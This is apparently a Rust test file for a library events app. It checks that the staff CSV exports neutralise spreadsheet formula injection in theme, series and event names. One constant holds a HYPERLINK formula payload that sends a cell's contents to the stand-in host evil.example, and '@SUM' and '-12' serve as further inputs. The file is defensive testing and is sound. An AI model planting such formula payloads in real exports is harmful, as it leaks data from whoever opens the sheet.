//! Every CSV the staff download goes through the one writer: a theme, a
//! series or a name that a spreadsheet would run as a formula comes out as
//! text; the figures the product writes stay numbers.

use almanach_domain::attendance::Headcount;
use almanach_domain::programme::SessionKind;
use almanach_domain::staff::Role;
use almanach_store::testing::session_write;
use almanach_store::{Actor, Event, Series, SessionWrite, Theme};
use axum::http::StatusCode;

use crate::app::TestApp;
use crate::http_test;

const HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Voir\")";
/// The same, as written in a CSV cell: quoted, with a leading apostrophe.
const NEUTRALISED: &str = "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Voir\"\")\"";

/// A counted workshop of a hostile series on a hostile theme, and a talk of
/// a series named "-12" (a text that looks like a number), with costs.
async fn hostile_season(app: &TestApp) {
    let a = Actor::system(app.library_id, "test");
    let series = |name: &str| Series {
        name: name.into(),
        ..Series::default()
    };
    let evil = app.store.save_series(&a, &series(HOSTILE)).await.unwrap();
    let minus = app.store.save_series(&a, &series("-12")).await.unwrap();
    let theme = app
        .store
        .save_theme(
            &a,
            &Theme {
                title: HOSTILE.into(),
                ..Theme::default()
            },
        )
        .await
        .unwrap();
    for (series, kind, themes, people, cost) in [
        (evil, SessionKind::Workshop, vec![theme], 19, 150_050),
        (minus, SessionKind::Talk, vec![], 73, 0),
    ] {
        let e = Event {
            series_id: Some(series),
            ..almanach_store::testing::published("@SUM(1+1)")
        };
        let e = app.store.save_event(&a, &e).await.unwrap();
        let w = SessionWrite {
            kind,
            theme_ids: themes,
            ..session_write(e, jiff::civil::date(2024, 11, 16), 14, 16)
        };
        let s = app.store.save_session(&a, None, &w).await.unwrap().unwrap();
        let h = Headcount::new(Some(people), Some(2), None, None).unwrap();
        app.store.set_headcount(&a, s, &h).await.unwrap();
        if cost > 0 {
            app.store.set_session_cost(&a, s, cost).await.unwrap();
        }
    }
}

fn lines(body: &str) -> Vec<&str> {
    assert!(body.starts_with('\u{feff}'), "a BOM: {body}");
    body.trim_start_matches('\u{feff}')
        .split("\r\n")
        .filter(|l| !l.is_empty())
        .collect()
}

http_test!(
    async fn the_breakdown_csv_neutralises_a_hostile_theme_and_series(app: TestApp) {
        hostile_season(&app).await;
        let mut c = app.signed_in(Role::Coordinator).await;
        let r = app
            .get(
                &mut c,
                "/staff/stats/breakdown.csv?period=season&season=2024-2025&by=theme",
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.body);
        let l = lines(&r.body);
        let row = l
            .iter()
            .find(|l| l.contains("HYPERLINK"))
            .unwrap_or_else(|| panic!("{}", r.body));
        assert!(
            row.starts_with(&format!(
                "{NEUTRALISED};1;1;0;1;19;2;10,5;0;;19,00;1500,50;78,97"
            )),
            "{row}"
        );
        let r = app
            .get(
                &mut c,
                "/staff/stats/breakdown.csv?period=season&season=2024-2025&by=series",
            )
            .await;
        let l = lines(&r.body);
        assert!(
            l.iter()
                .any(|l| l.starts_with(&format!("{NEUTRALISED};1;1;0;1;19;"))),
            "{}",
            r.body
        );
        assert!(
            l.iter().any(|l| l.starts_with("\"'-12\";1;1;1;0;73;2;")),
            "a name that looks like a number is text: {}",
            r.body
        );
    }
);

http_test!(
    async fn the_review_csv_neutralises_a_hostile_series(app: TestApp) {
        hostile_season(&app).await;
        let mut c = app.signed_in(Role::Coordinator).await;
        let r = app
            .get(
                &mut c,
                "/staff/stats/review.csv?period=season&season=2024-2025",
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.body);
        let l = lines(&r.body);
        assert!(
            l.iter().any(|l| l.starts_with(&format!(
                "2024-2025;{NEUTRALISED};1;1;0;1;0;19;2;0;;19,00;1;1;1;1500,50;78,97"
            ))),
            "{}",
            r.body
        );
        assert!(
            l.iter()
                .any(|l| l.starts_with("2024-2025;\"'-12\";1;1;1;0;0;73;2;0;73,00;;")),
            "{}",
            r.body
        );
        assert!(
            !r.body.contains(";=") && !r.body.contains(";@") && !r.body.contains(";+"),
            "no cell starts a formula: {}",
            r.body
        );
    }
);
